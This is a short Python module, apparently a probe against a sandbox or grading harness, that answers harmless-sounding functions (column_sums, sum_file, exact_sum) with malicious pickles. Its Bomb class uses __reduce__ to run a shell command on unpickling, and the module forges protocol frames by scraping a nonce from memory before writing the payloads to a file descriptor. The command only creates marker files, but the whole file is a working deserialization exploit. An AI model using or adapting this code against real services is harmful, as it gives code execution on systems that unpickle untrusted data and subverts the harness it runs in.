"""Replies with pickles that run commands, bare and inside plausible envelopes.

earns: nothing
"""

import pickle
import subprocess


import os
import struct
import gc


def nonce():
    for thing in gc.get_objects():
        found = getattr(thing, "_nonce", None)
        if isinstance(found, bytes) and len(found) == 8:
            return found
    return bytes(8)


class Bomb:
    def __reduce__(self):
        return subprocess.getoutput, ("touch /tmp/pwned /dev/shm/pwned",)


def send(payload):
    os.write(3, struct.pack("!8sI", nonce(), len(payload)) + payload)


def column_sums(x):
    send(pickle.dumps(("value", Bomb())))


def sum_file(path):
    inside = pickle.dumps(Bomb(), protocol=5)
    send(struct.pack(">I", len(inside)) + inside)


def exact_sum(values):
    return pickle.dumps(Bomb())
